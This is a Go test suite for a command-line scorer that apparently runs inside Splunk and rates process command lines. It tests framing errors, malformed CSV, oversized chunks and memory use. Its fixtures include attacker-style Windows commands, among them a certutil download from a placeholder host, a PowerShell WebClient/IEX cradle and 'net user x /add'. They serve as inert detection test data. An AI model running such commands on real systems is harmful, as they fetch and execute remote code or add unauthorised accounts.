package cli

// The bad-input suite: broken, hostile and oversized streams fed to the
// real binary exactly as splunkd runs it (a subprocess, the protocol on
// stdin). Every run has a deadline, stderr is checked for panics, stdout
// is parsed strictly, and the big cases check the child's peak RSS.
//
// Peak RSS comes from wait4's rusage. On Linux, os/exec starts the child
// with vfork (CLONE_VM), and exec records the shared address space's high
// water mark into the child's maxrss, so a child's figure is at least this
// test process's own peak at the time of the start (measured: a child of a
// process holding 200 MiB reports 200 MiB). The big cases therefore
// generate their input and check their output as streams, and the one that
// must hold a big value runs last; checkRSS logs this process's figure
// too (an upper bound of that floor: it includes what `go test` passed on).

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"scorecmdline/src/config"
	"scorecmdline/src/event"
	"scorecmdline/src/score"
)

// childTimeout bounds every subprocess: hitting it fails the test as a hang.
const childTimeout = 60 * time.Second

// childResult is what one run of the binary did.
type childResult struct {
	stdout, stderr []byte // stdout is empty when the caller consumed it
	code           int    // exit status; -1 when a signal ended the process
	signal         syscall.Signal
	rssKiB         int64 // peak RSS from wait4, see the file comment
	selfKiB        int64 // this process's peak RSS when the child started
	wall           time.Duration
}

func (r childResult) rssMiB() float64 { return float64(r.rssKiB) / 1024 }

// startChild starts the binary with a deadline. stdout, when non-nil,
// receives the child's stdout; otherwise it is collected.
func startChild(t testing.TB, stdin io.Reader, stdout io.Writer, args ...string) (wait func() childResult) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), childTimeout)
	cmd := exec.CommandContext(ctx, binPath, args...)
	cmd.WaitDelay = 5 * time.Second
	cmd.Stdin = stdin
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if stdout != nil {
		cmd.Stdout = stdout
	}
	self := selfPeakKiB()
	start := time.Now()
	if err := cmd.Start(); err != nil {
		cancel()
		t.Fatal(err)
	}
	return func() childResult {
		t.Helper()
		defer cancel()
		err := cmd.Wait()
		r := childResult{stdout: out.Bytes(), stderr: errb.Bytes(), wall: time.Since(start), selfKiB: self}
		if ctx.Err() != nil {
			t.Fatalf("the process did not end within %v (killed): a hang\nstderr: %.2000s", childTimeout, r.stderr)
		}
		var ee *exec.ExitError
		if err != nil && !errors.As(err, &ee) {
			t.Fatalf("running the binary: %v", err)
		}
		st := cmd.ProcessState
		r.code = st.ExitCode()
		if ws, ok := st.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
			r.signal = ws.Signal()
		}
		if ru, ok := st.SysUsage().(*syscall.Rusage); ok {
			r.rssKiB = ru.Maxrss
		}
		noPanic(t, r.stderr)
		return r
	}
}

// runChild runs the binary to completion over stdin.
func runChild(t testing.TB, stdin io.Reader, args ...string) childResult {
	t.Helper()
	return startChild(t, stdin, nil, args...)()
}

func selfPeakKiB() int64 {
	var ru syscall.Rusage
	if syscall.Getrusage(syscall.RUSAGE_SELF, &ru) != nil {
		return 0
	}
	return ru.Maxrss
}

func noPanic(t testing.TB, stderr []byte) {
	t.Helper()
	if bytes.Contains(stderr, []byte("panic:")) || bytes.Contains(stderr, []byte("goroutine ")) {
		t.Errorf("stderr shows a panic:\n%.4000s", stderr)
	}
}

// checkRSS fails when the child's peak RSS reaches limit MiB.
func checkRSS(t testing.TB, r childResult, limitMiB float64) {
	t.Helper()
	t.Logf("child peak RSS %.1f MiB (this process's peak at start: %.1f MiB), wall %v",
		r.rssMiB(), float64(r.selfKiB)/1024, r.wall.Round(time.Millisecond))
	if r.rssMiB() >= limitMiB {
		t.Errorf("child peak RSS %.1f MiB, want under %.0f MiB", r.rssMiB(), limitMiB)
	}
}

// replyChunk is one reply chunk with its body unparsed.
type replyChunk struct {
	meta map[string]any
	body []byte
}

// readReplyHead reads one strictly framed header and its metadata, and
// returns the body length. It returns io.EOF only at a chunk boundary.
func readReplyHead(br *bufio.Reader) (meta map[string]any, bodyLen int64, err error) {
	line, err := br.ReadString('\n')
	if err == io.EOF && line == "" {
		return nil, 0, io.EOF
	}
	if err != nil {
		return nil, 0, fmt.Errorf("header %q: %v", line, err)
	}
	var m, b int64
	if _, err := fmt.Sscanf(line, "chunked 1.0,%d,%d\n", &m, &b); err != nil ||
		line != fmt.Sprintf("chunked 1.0,%d,%d\n", m, b) {
		return nil, 0, fmt.Errorf("not a canonical header: %q", line)
	}
	mb := make([]byte, m)
	if _, err := io.ReadFull(br, mb); err != nil {
		return nil, 0, fmt.Errorf("metadata: %v", err)
	}
	if err := json.Unmarshal(mb, &meta); err != nil || meta == nil {
		return nil, 0, fmt.Errorf("metadata %q is not a JSON object: %v", mb, err)
	}
	return meta, b, nil
}

// splitReplies parses a whole stdout strictly: canonical headers, byte
// lengths, nothing between chunks, ending exactly at EOF.
func splitReplies(t testing.TB, out []byte) []replyChunk {
	t.Helper()
	br := bufio.NewReader(bytes.NewReader(out))
	var rs []replyChunk
	for {
		meta, n, err := readReplyHead(br)
		if err == io.EOF {
			return rs
		}
		if err != nil {
			t.Fatalf("stdout reply %d: %v", len(rs), err)
		}
		body := make([]byte, n)
		if _, err := io.ReadFull(br, body); err != nil {
			t.Fatalf("stdout reply %d: body: %v", len(rs), err)
		}
		rs = append(rs, replyChunk{meta, body})
	}
}

// errorTexts returns the texts of the ERROR messages of a reply.
func errorTexts(meta map[string]any) []string {
	insp, _ := meta["inspector"].(map[string]any)
	msgs, _ := insp["messages"].([]any)
	var out []string
	for _, m := range msgs {
		if pair, ok := m.([]any); ok && len(pair) == 2 && pair[0] == "ERROR" {
			s, _ := pair[1].(string)
			out = append(out, s)
		}
	}
	return out
}

// readCSV decodes a reply or request body with encoding/csv.
func readCSV(t testing.TB, body []byte) [][]string {
	t.Helper()
	cr := csv.NewReader(bytes.NewReader(body))
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("body is not CSV: %v\n%.500q", err, body)
	}
	return recs
}

// outputNames is the header the default options add to every chunk.
func outputNames(t testing.TB, opts score.Options) []string {
	t.Helper()
	eng, err := score.New(config.Lookups(""), opts)
	if err != nil {
		t.Fatal(err)
	}
	var names, mv []string
	for _, f := range eng.Fields() {
		names = append(names, f.Name)
		if f.Multi {
			mv = append(mv, "__mv_"+f.Name)
		}
	}
	return append(names, mv...)
}

// badCase is one stream and its documented outcome.
type badCase struct {
	name   string
	args   []string
	stream string
	code   int    // exit status
	err    string // fragment of the one ERROR message; "" when none is expected
	// replies is the number of reply chunks expected (the error reply
	// included).
	replies int
	check   func(t *testing.T, rs []replyChunk)
}

// TestBadInputSuite runs each case and records every outcome (exit status,
// ERROR text, replies) in testdata/badinput.golden (-update rewrites it).
func TestBadInputSuite(t *testing.T) {
	good := getinfo()
	g := len(good) // the byte offset of chunk 2
	exec36 := `{"action":"execute","finished":true}`
	passThrough := func(body string, wantRows int) func(t *testing.T, rs []replyChunk) {
		return func(t *testing.T, rs []replyChunk) {
			checkPassThrough(t, body, rs[len(rs)-1].body, wantRows)
		}
	}
	cases := []badCase{
		// Framing.
		{name: "empty stdin", stream: "", code: 0, replies: 0},
		{name: "getinfo then EOF", stream: good, code: 0, replies: 1},
		{name: "truncated header of getinfo", stream: "chunked 1.0,12", code: 1, err: "chunk 1 at byte 0: unexpected EOF", replies: 1},
		{name: "truncated header", stream: good + "chunked 1.0,36,", code: 1, err: fmt.Sprintf("chunk 2 at byte %d: unexpected EOF", g), replies: 2},
		{name: "truncated header, only the prefix", stream: good + "chunked", code: 1, err: fmt.Sprintf("chunk 2 at byte %d: unexpected EOF", g), replies: 2},
		{name: "truncated metadata of getinfo", stream: "chunked 1.0,300,0\n{\"action\":\"getinfo\"", code: 1, err: "chunk 1 at byte 0: unexpected EOF", replies: 1},
		{name: "truncated metadata", stream: good + "chunked 1.0,36,0\n{\"action\":\"exe", code: 1, err: fmt.Sprintf("chunk 2 at byte %d: unexpected EOF", g), replies: 2},
		{name: "truncated body", stream: good + "chunked 1.0,36,100\n" + exec36 + "process\nwhoami\n", code: 1, err: fmt.Sprintf("chunk 2 at byte %d: unexpected EOF", g), replies: 2},
		{name: "truncated body after good chunks", stream: good + execute(false, "process\na\n") + "chunked 1.0,36,9\n" + exec36 + "process",
			code: 1, err: "chunk 3 at byte", replies: 3},
		{name: "metadata length overflows int64", stream: good + "chunked 1.0,99999999999999999999,0\n", code: 1, err: "chunk: invalid header", replies: 2},
		{name: "body length 2^63", stream: good + "chunked 1.0,36,9223372036854775808\n", code: 1, err: "chunk: invalid header", replies: 2},
		{name: "body length max int64", stream: good + "chunked 1.0,36,9223372036854775807\n", code: 1, err: "chunk: invalid header", replies: 2},
		{name: "lengths that overflow when added", stream: good + "chunked 1.0,999999999999999999,999999999999999999\n", code: 1,
			err: "chunk: too large: ", replies: 2},
		{name: "negative metadata length", stream: good + "chunked 1.0,-1,0\n", code: 1, err: `chunk: invalid header "chunked 1.0,-1,0\n"`, replies: 2},
		{name: "negative body length", stream: good + "chunked 1.0,36,-5\n" + exec36, code: 1, err: "chunk: invalid header", replies: 2},
		{name: "non-numeric length", stream: good + "chunked 1.0,abc,0\n", code: 1, err: "chunk: invalid header", replies: 2},
		{name: "exponent length", stream: good + "chunked 1.0,1e3,0\n", code: 1, err: "chunk: invalid header", replies: 2},
		{name: "spaces in header", stream: good + "chunked 1.0, 36,0\n" + exec36, code: 1, err: "chunk: invalid header", replies: 2},
		{name: "CRLF header", stream: good + "chunked 1.0,36,0\r\n" + exec36, code: 1, err: "chunk: invalid header", replies: 2},
		{name: "garbage after getinfo", stream: good + "hello world\n", code: 1, err: "chunk: invalid header", replies: 2},
		{name: "newline between chunks", stream: good + "\n" + execute(true, ""), code: 1, err: "chunk: invalid header", replies: 2},
		{name: "header without newline, 1 MiB", stream: good + "chunked 1.0," + strings.Repeat("7", 1<<20), code: 1, err: "chunk: invalid header", replies: 2},
		{name: "2 GiB declared, default limit", stream: good + "chunked 1.0,36,2147483648\n" + exec36 + "process\nx\n", code: 1,
			err: "chunk: too large: 2147483684 bytes declared, limit 1073741824", replies: 2},
		{name: "chunk above --max-chunk-size", args: []string{"search", "--max-chunk-size=1KiB"},
			stream: good + execute(true, "process\n"+strings.Repeat("y", 2000)+"\n"), code: 1, err: "chunk: too large: 2045 bytes declared, limit 1024", replies: 2},
		{name: "not the protocol", stream: "hello\n", code: 2, replies: 0},

		// Metadata.
		{name: "invalid JSON metadata of getinfo", stream: frame(`{"action":"getinfo",`, ""), code: 1, err: "chunk 1 at byte 0: invalid metadata: unexpected end of JSON input", replies: 1},
		{name: "invalid JSON metadata", stream: good + frame(`{"action":"execute",,}`, ""), code: 1, err: "invalid metadata: invalid character ','", replies: 2},
		{name: "empty metadata", stream: good + frame("", "process\nx\n"), code: 1, err: "invalid metadata: unexpected end of JSON input", replies: 2},
		{name: "metadata null", stream: good + frame("null", ""), code: 1, err: "invalid metadata: not a JSON object", replies: 2},
		{name: "metadata an array", stream: good + frame(`["execute"]`, ""), code: 1, err: "invalid metadata: not a JSON object", replies: 2},
		{name: "metadata with a wrong type", stream: good + frame(`{"action":"execute","finished":[1]}`, ""), code: 1, err: "invalid metadata", replies: 2},
		{name: "metadata invalid UTF-8", stream: good + frame("{\"action\":\"exe\xffcute\",\"finished\":true}", ""), code: 1,
			err: "unexpected action \"exe\ufffdcute\", expected \"execute\"", replies: 2},
		{name: "unknown action", stream: good + frame(`{"action":"bogus","finished":true}`, ""), code: 1, err: `unexpected action "bogus", expected "execute"`, replies: 2},
		{name: "unknown action first", stream: frame(`{"action":"bogus"}`, ""), code: 1, err: `unexpected action "bogus", expected "getinfo"`, replies: 1},
		{name: "no action", stream: good + frame(`{"finished":true}`, ""), code: 1, err: `unexpected action "", expected "execute"`, replies: 2},
		{name: "execute before getinfo", stream: execute(true, "process\nx\n"), code: 1, err: `chunk 1 at byte 0: unexpected action "execute", expected "getinfo"`, replies: 1},
		{name: "getinfo twice", stream: good + good, code: 1, err: fmt.Sprintf(`chunk 2 at byte %d: unexpected action "getinfo", expected "execute"`, g), replies: 2},
		{name: "getinfo with a body", stream: frame(`{"action":"getinfo","searchinfo":{"args":[]}}`, "process\nx\n"), code: 1, err: "getinfo request carries a body (10 bytes)", replies: 1},
		{name: "getinfo without searchinfo", stream: frame(`{"action":"getinfo"}`, "") + execute(true, "process\nwhoami\n"), code: 0, replies: 2},
		{name: "duplicate option", stream: getinfo("field=a", "field=b"), code: 1, err: "duplicate option: field", replies: 1},
		{name: "finished as a string", stream: good + frame(`{"action":"execute","finished":"true"}`, ""), code: 0, replies: 2,
			check: func(t *testing.T, rs []replyChunk) {
				if rs[1].meta["finished"] != true {
					t.Errorf("finished %v, want true", rs[1].meta["finished"])
				}
			}},

		// CSV bodies.
		{name: "ragged row, too few fields", stream: good + execute(true, "process,b\nwhoami,1\nwhoami\n"), code: 1,
			err: `row 2, column 2 ("b"): wrong number of fields: the row has 1, the header 2`, replies: 2},
		{name: "ragged row, too many fields", stream: good + execute(true, "process,b\nwhoami,1,2\n"), code: 1,
			err: `row 1, column 3: wrong number of fields: the row has 3, the header 2`, replies: 2},
		{name: "unterminated quote", stream: good + execute(true, "process,b\n\"whoami /all,1\n"), code: 1, err: "row 1, column 1 (\"process\"): unterminated quoted field", replies: 2},
		{name: "unterminated quote in header", stream: good + execute(true, "\"process,b\nx,1\n"), code: 1, err: "header, column 1: unterminated quoted field", replies: 2},
		{name: "bare quote", stream: good + execute(true, "process,b\nwho\"ami,1\n"), code: 1, err: `row 1, column 1 ("process"): bare " in unquoted field`, replies: 2},
		{name: "text after closing quote", stream: good + execute(true, "process,b\n\"who\"ami,1\n"), code: 1, err: `unexpected character after closing "`, replies: 2},
		{name: "CR-only line ends", stream: good + execute(true, "process,b\rwhoami,1\rnet user,2\r"), code: 1,
			err: "header, column 2: carriage return not followed by newline (CR-only line ends are not supported)", replies: 2},
		{name: "field above --max-field-size", args: []string{"search", "--max-field-size=1KiB"},
			stream: good + execute(true, "process,b\n"+strings.Repeat("z", 1025)+",1\n"), code: 1,
			err: `row 1, column 1 ("process"): field too large: 1025 bytes, limit 1024`, replies: 2},
		{name: "error in a later chunk keeps earlier replies", stream: good + execute(false, "process\nwhoami\n") + execute(true, "process,b\nx\n"),
			code: 1, err: "chunk 3 at byte", replies: 3},
		{name: "BOM before the header", stream: good + execute(true, "\xef\xbb\xbfprocess,b\nwhoami,1\n"), code: 0, replies: 2,
			check: func(t *testing.T, rs []replyChunk) {
				if !bytes.HasPrefix(rs[1].body, []byte("process,b,")) {
					t.Errorf("reply header %.60q: want the BOM dropped and the header kept", rs[1].body)
				}
				checkPassThrough(t, "process,b\nwhoami,1\n", rs[1].body, 1)
			}},
		{name: "header only", stream: good + execute(true, "process,\"_chunked_idx\"\n"), code: 0, replies: 2,
			check: func(t *testing.T, rs []replyChunk) {
				want := "process,\"_chunked_idx\"," + strings.Join(outputNames(t, score.Defaults()), ",") + "\n"
				if string(rs[1].body) != want {
					t.Errorf("header-only reply %q, want %q", rs[1].body, want)
				}
			}},
		{name: "header without a newline", stream: good + execute(true, "process,b"), code: 0, replies: 2,
			check: func(t *testing.T, rs []replyChunk) {
				if !bytes.HasPrefix(rs[1].body, []byte("process,b,score,")) {
					t.Errorf("reply %q", rs[1].body)
				}
			}},
		{name: "last row without a newline", stream: good + execute(true, "process,b\nwhoami,1"), code: 0, replies: 2,
			check: passThrough("process,b\nwhoami,1\n", 1)},
		{name: "malformed __mv_ values pass through", stream: good + execute(true, mvBody), code: 0, replies: 2,
			check: func(t *testing.T, rs []replyChunk) {
				checkPassThrough(t, mvBody, rs[1].body, 6)
				for i, row := range readCSV(t, rs[1].body)[1:] {
					if row[2] == "" {
						t.Errorf("row %d: no score for %q", i+1, row[0])
					}
				}
			}},
		{name: "invalid UTF-8 and NUL pass through", stream: good + execute(true, oddBody), code: 0, replies: 2,
			check: passThrough(oddBody, 3)},
		{name: "quoted and empty values", stream: good + execute(true, "process,\"b\"\n\"\",\"\"\n,\n\" whoami \",\" \"\n"), code: 0, replies: 2,
			check: func(t *testing.T, rs []replyChunk) {
				checkPassThrough(t, "process,\"b\"\n\"\",\"\"\n,\n\" whoami \",\" \"\n", rs[1].body, 3)
				recs := readCSV(t, rs[1].body)
				if recs[1][2] != "" || recs[2][2] != "" || recs[3][2] == "" {
					t.Errorf("empty process must give empty outputs, a blank-padded one a score: %q", recs[1:])
				}
			}},
		{name: "duplicate column names", stream: good + execute(true, "process,process\nwhoami,net user x /add\n"), code: 0, replies: 2,
			check: passThrough("process,process\nwhoami,net user x /add\n", 1)},
		{name: "no process column", stream: good + execute(true, "a,b\n1,2\n"), code: 0, replies: 2,
			check: func(t *testing.T, rs []replyChunk) {
				recs := readCSV(t, rs[1].body)
				for _, v := range recs[1][2:] {
					if v != "" {
						t.Errorf("outputs %q, want all empty without the field", recs[1][2:])
						break
					}
				}
			}},
	}
	var record strings.Builder
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := runChild(t, strings.NewReader(tc.stream), tc.args...)
			rs := splitReplies(t, r.stdout)
			fmt.Fprintf(&record, "== %s\nexit %d, %d replies\n", tc.name, r.code, len(rs))
			if r.code != tc.code {
				t.Errorf("exit %d, want %d\nstderr: %.1000s", r.code, tc.code, r.stderr)
			}
			if len(rs) != tc.replies {
				t.Fatalf("%d replies, want %d\nstdout: %.1000q", len(rs), tc.replies, r.stdout)
			}
			var errs []string
			for i, c := range rs {
				e := errorTexts(c.meta)
				if len(e) > 0 && i != len(rs)-1 {
					t.Errorf("reply %d carries ERROR %q but is not the last", i, e)
				}
				errs = append(errs, e...)
			}
			for _, e := range errs {
				fmt.Fprintf(&record, "ERROR %s\n", e)
			}
			if tc.code == 2 {
				fmt.Fprintf(&record, "stderr %s", r.stderr)
			}
			switch {
			case tc.err == "" && len(errs) > 0:
				t.Errorf("unexpected ERROR %q", errs)
			case tc.err != "" && (len(errs) != 1 || !strings.Contains(errs[0], tc.err)):
				t.Errorf("ERROR messages %q, want one containing %q", errs, tc.err)
			case tc.err != "":
				last := rs[len(rs)-1]
				if last.meta["finished"] != true || len(last.body) != 0 {
					t.Errorf("error reply %v with %d body bytes, want finished:true and no body", last.meta, len(last.body))
				}
				if !bytes.Contains(r.stderr, []byte("ERROR "+errs[0])) {
					t.Errorf("stderr %q does not log the error", r.stderr)
				}
			}
			if tc.check != nil && !t.Failed() {
				tc.check(t, rs)
			}
		})
	}
	if !t.Failed() {
		checkGolden(t, "badinput", record.String())
	}
}

// mvBody has __mv_ companions that are not valid encodings; they are data.
var mvBody = "process,\"__mv_process\",tags,\"__mv_tags\"\n" +
	"\"cmd /c whoami\",\"$abc\",a,\"$a$;$b\"\n" +
	"\"net user x /add\",\"$$$\",a,\";;\"\n" +
	"\"powershell -enc AAAA\",\"$a$$;\",\"x\ny\",\"$x$;$y$;\"\n" +
	"whoami,garbage,b,\"$\"\n" +
	"\"certutil -urlcache -f http://x/y\",\"\"\"$q$\"\"\",c,\"$$\"\n" +
	"ipconfig,\"$a$;$b$\",d,\"$ok$;$fine$\"\n"

// oddBody has invalid UTF-8 and NUL bytes in names and values.
var oddBody = "process,\"na\xffme\",\"n\x00ul\"\n" +
	"\"net\xff\xfeuser\x00 x /add\",\"\x00\",\"\xc3\"\n" +
	"\x00\x00,\xed\xa0\x80,\xf4\x90\x80\x80\n" +
	"\"cmd /c \xe0\xb8\",,\x00\n"

// checkPassThrough decodes the request and reply bodies and checks that the
// reply has the same rows, every input field identical, and every row
// starting with the request row's bytes.
func checkPassThrough(t *testing.T, reqBody string, replyBody []byte, wantRows int) {
	t.Helper()
	req := readCSV(t, []byte(reqBody))
	rep := readCSV(t, replyBody)
	if len(rep) != len(req) || len(req)-1 != wantRows {
		t.Fatalf("reply has %d records, request %d, want %d rows", len(rep), len(req), wantRows)
	}
	for i := range req {
		for j, v := range req[i] {
			if j >= len(rep[i]) || rep[i][j] != v {
				t.Errorf("record %d field %d: reply %q, request %q", i, j, rep[i], v)
			}
		}
	}
	// Raw rows: each request line (its bytes up to the terminator) begins a
	// reply line, followed by a comma.
	for _, line := range strings.SplitAfter(strings.TrimPrefix(reqBody, "\xef\xbb\xbf"), "\n") {
		line = strings.TrimSuffix(line, "\n")
		if line == "" || strings.Count(line, `"`)%2 != 0 {
			continue // a quoted newline: checked by the decoded comparison
		}
		if !bytes.Contains(replyBody, []byte(line+",")) {
			t.Errorf("reply does not carry the request line %q byte for byte", line)
		}
	}
}

// The big cases: each streams its input and output so that this process
// stays small (see the file comment), and checks the child's memory. They
// take under 2 s each on 2 cores, so -short keeps them.

// TestDeclared2GiB: a chunk that declares 2 GiB and sends 1 MiB. With the
// default limit it is refused before any of it is read; with a 4 GiB
// limit it is read as it arrives and ends as a truncated chunk. Neither
// allocates the declared size.
func TestDeclared2GiB(t *testing.T) {
	meta := `{"action":"execute","finished":true}`
	head := getinfo() + fmt.Sprintf("chunked 1.0,%d,%d\n", len(meta), int64(2)<<30) + meta + "process\n"
	for _, tc := range []struct {
		name string
		args []string
		err  string
	}{
		{"default limit", nil, "chunk: too large: 2147483684 bytes declared, limit 1073741824"},
		{"4 GiB limit", []string{"search", "--max-chunk-size=4GiB"}, "unexpected EOF"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			in := io.MultiReader(strings.NewReader(head), &repeatReader{unit: []byte("whoami /all\n"), n: 1 << 20})
			r := runChild(t, in, tc.args...)
			rs := splitReplies(t, r.stdout)
			if r.code != 1 || len(rs) != 2 {
				t.Fatalf("exit %d, %d replies; want 1 and 2 (stderr %s)", r.code, len(rs), r.stderr)
			}
			if e := errorTexts(rs[1].meta); len(e) != 1 || !strings.Contains(e[0], tc.err) {
				t.Errorf("ERROR %q, want %q", e, tc.err)
			}
			checkRSS(t, r, 100)
		})
	}
}

// repeatReader yields unit repeated until n bytes have been read.
type repeatReader struct {
	unit []byte
	n    int64
	off  int
}

func (r *repeatReader) Read(p []byte) (int, error) {
	if r.n <= 0 {
		return 0, io.EOF
	}
	k := 0
	for k < len(p) && r.n > 0 {
		c := copy(p[k:min(len(p), k+int(min(r.n, int64(len(r.unit)-r.off))))], r.unit[r.off:])
		k += c
		r.n -= int64(c)
		r.off = (r.off + c) % len(r.unit)
	}
	return k, nil
}

// streamCheck runs the binary with its stdout read by check as it is
// written, and returns the result after both end.
func streamCheck(t *testing.T, stdin io.Reader, check func(br *bufio.Reader) error, args ...string) childResult {
	t.Helper()
	pr, pw := io.Pipe()
	done := make(chan error, 1)
	go func() {
		err := check(bufio.NewReaderSize(pr, 64<<10))
		if err == nil {
			if n, _ := io.Copy(io.Discard, pr); n > 0 {
				err = fmt.Errorf("%d bytes after the last expected reply", n)
			}
		}
		pr.CloseWithError(err) // unblocks the child's writer if check gave up
		done <- err
	}()
	wait := startChild(t, stdin, pw, args...)
	r := wait()
	pw.Close()
	if err := <-done; err != nil {
		t.Errorf("stdout: %v", err)
	}
	return r
}

// expectGetinfoReply reads the getinfo reply and checks it is not an error.
func expectGetinfoReply(br *bufio.Reader) error {
	meta, n, err := readReplyHead(br)
	if err != nil {
		return fmt.Errorf("getinfo reply: %v", err)
	}
	if meta["type"] != "streaming" || n != 0 {
		return fmt.Errorf("getinfo reply %v with %d body bytes", meta, n)
	}
	return nil
}

// TestManyColumns: 100,000 columns (the command line in the last one) work
// and the reply keeps them all.
func TestManyColumns(t *testing.T) {
	const cols = 100_000
	var hdr, row strings.Builder
	for i := range cols - 1 {
		fmt.Fprintf(&hdr, "\"c%d\",", i)
		fmt.Fprintf(&row, "%d,", i%10)
	}
	hdr.WriteString("process\n")
	row.WriteString("\"certutil -urlcache -split -f http://x/y.exe\"\n")
	body := hdr.String() + row.String() + row.String()
	in := getinfo() + execute(true, body)
	outNames := outputNames(t, score.Defaults())
	r := streamCheck(t, strings.NewReader(in), func(br *bufio.Reader) error {
		if err := expectGetinfoReply(br); err != nil {
			return err
		}
		meta, n, err := readReplyHead(br)
		if err != nil || meta["finished"] != true || len(errorTexts(meta)) > 0 {
			return fmt.Errorf("reply %v: %v", meta, err)
		}
		recs, err := csv.NewReader(io.LimitReader(br, n)).ReadAll()
		if err != nil {
			return err
		}
		if len(recs) != 3 || len(recs[0]) != cols+len(outNames) || len(recs[1]) != cols+len(outNames) {
			return fmt.Errorf("%d records of %d fields", len(recs), len(recs[0]))
		}
		count := cols + slices.Index(outNames, "rule_count")
		if recs[0][cols-1] != "process" || recs[0][cols] != "score" || recs[1][cols-2] != "8" ||
			recs[2][cols-1] != "certutil -urlcache -split -f http://x/y.exe" || recs[0][count] != "rule_count" || recs[2][count] != "1" {
			return fmt.Errorf("wrong cells: %q %q %q", recs[0][cols-1:cols+1], recs[1][cols-2:cols], recs[2][cols-1:cols+3])
		}
		return nil
	})
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	checkRSS(t, r, 160)
}

// TestMillionRows: 1,000,000 tiny rows in one chunk; every row comes back,
// in order.
func TestMillionRows(t *testing.T) {
	const rows = 1_000_000
	// The body is generated as it is sent, to keep this process small.
	bodyLen := int64(len("process,i\n"))
	for i := range rows {
		bodyLen += int64(len("a,\n") + len(strconv.Itoa(i)))
	}
	meta := `{"action":"execute","finished":false}`
	in := io.MultiReader(
		strings.NewReader(getinfo()+fmt.Sprintf("chunked 1.0,%d,%d\n%sprocess,i\n", len(meta), bodyLen, meta)),
		&rowsReader{n: rows},
		strings.NewReader(execute(true, "")))
	r := streamCheck(t, in, func(br *bufio.Reader) error {
		if err := expectGetinfoReply(br); err != nil {
			return err
		}
		meta, n, err := readReplyHead(br)
		if err != nil || meta["finished"] != false || len(errorTexts(meta)) > 0 {
			return fmt.Errorf("reply %v: %v", meta, err)
		}
		cr := csv.NewReader(io.LimitReader(br, n))
		cr.ReuseRecord = true
		if _, err := cr.Read(); err != nil {
			return err
		}
		for i := range rows {
			rec, err := cr.Read()
			if err != nil {
				return fmt.Errorf("row %d: %v", i, err)
			}
			if rec[0] != "a" || rec[1] != strconv.Itoa(i) || rec[2] == "" {
				return fmt.Errorf("row %d is %q", i, rec)
			}
		}
		if _, err := cr.Read(); err != io.EOF {
			return fmt.Errorf("more than %d rows: %v", rows, err)
		}
		meta, n, err = readReplyHead(br)
		if err != nil || meta["finished"] != true || n != 0 {
			return fmt.Errorf("last reply %v, %d body bytes: %v", meta, n, err)
		}
		return nil
	})
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	t.Logf("1,000,000 rows (%d bytes) in one chunk: wall %v", bodyLen, r.wall.Round(time.Millisecond))
	checkRSS(t, r, 256)
}

// rowsReader yields the rows "a,<i>\n" for i from 0 to n-1.
type rowsReader struct {
	i, n int
	buf  []byte
}

func (r *rowsReader) Read(p []byte) (int, error) {
	for len(r.buf) < len(p) && r.i < r.n {
		r.buf = append(r.buf, "a,"...)
		r.buf = strconv.AppendInt(r.buf, int64(r.i), 10)
		r.buf = append(r.buf, '\n')
		r.i++
	}
	if len(r.buf) == 0 {
		return 0, io.EOF
	}
	k := copy(p, r.buf)
	r.buf = r.buf[:copy(r.buf, r.buf[k:])]
	return k, nil
}

// TestHugeField: one 16 MiB command line (with quotes, so it is CSV-escaped)
// is scored and comes back byte for byte.
func TestHugeField(t *testing.T) {
	const size = 16 << 20
	unit := []byte(`powershell -c ""New-Object Net.WebClient""; IEX `) // CSV-escaped
	rawLen := int64(size / len(unit) * len(unit))
	body := func() io.Reader {
		return io.MultiReader(strings.NewReader("process,b\n\""), &repeatReader{unit: unit, n: rawLen}, strings.NewReader("\",tail\n"))
	}
	bodyLen := int64(len("process,b\n\"")) + rawLen + int64(len("\",tail\n"))
	meta := `{"action":"execute","finished":true}`
	in := io.MultiReader(strings.NewReader(getinfo()+fmt.Sprintf("chunked 1.0,%d,%d\n%s", len(meta), bodyLen, meta)), body())

	var got []string
	r := streamCheck(t, in, func(br *bufio.Reader) error {
		if err := expectGetinfoReply(br); err != nil {
			return err
		}
		meta, n, err := readReplyHead(br)
		if err != nil {
			return err
		}
		if meta["finished"] != true || len(errorTexts(meta)) > 0 {
			return fmt.Errorf("reply %v", meta)
		}
		hdr, err := br.ReadString('\n')
		if err != nil || !strings.HasPrefix(hdr, "process,b,score,") {
			return fmt.Errorf("reply header %q: %v", hdr, err)
		}
		// The row: the request's bytes, compared as a stream, then the outputs.
		reqRow := io.MultiReader(strings.NewReader("\""), &repeatReader{unit: unit, n: rawLen}, strings.NewReader("\",tail,"))
		rowLen := 1 + rawLen + int64(len("\",tail,"))
		if err := sameStream(io.LimitReader(br, rowLen), reqRow); err != nil {
			return fmt.Errorf("the 16 MiB row is not passed through: %v", err)
		}
		rest := make([]byte, n-int64(len(hdr))-rowLen)
		if _, err := io.ReadFull(br, rest); err != nil {
			return err
		}
		got, err = csv.NewReader(bytes.NewReader(rest)).Read()
		if err != nil {
			return fmt.Errorf("outputs %q: %v", rest, err)
		}
		return nil
	})
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	checkRSS(t, r, 160)

	// The expected outputs, from the library on the unescaped value
	// (computed after the run: see the file comment).
	value := bytes.Repeat(bytes.ReplaceAll(unit, []byte(`""`), []byte(`"`)), size/len(unit))
	eng, err := score.New(config.Lookups(""), score.Defaults())
	if err != nil {
		t.Fatal(err)
	}
	var want sinkStrings
	want.reset(len(eng.Fields()))
	var ev event.Event
	ev.Set(event.Process, value)
	eng.NewScorer().Score(&ev).Emit(want, nil)
	for i, f := range eng.Fields() {
		if w := strings.Join(want[i], "\n"); i >= len(got) || got[i] != w {
			t.Errorf("output %s = %q, want %q", f.Name, got, w)
		}
	}
}

// sameStream compares two streams without holding either.
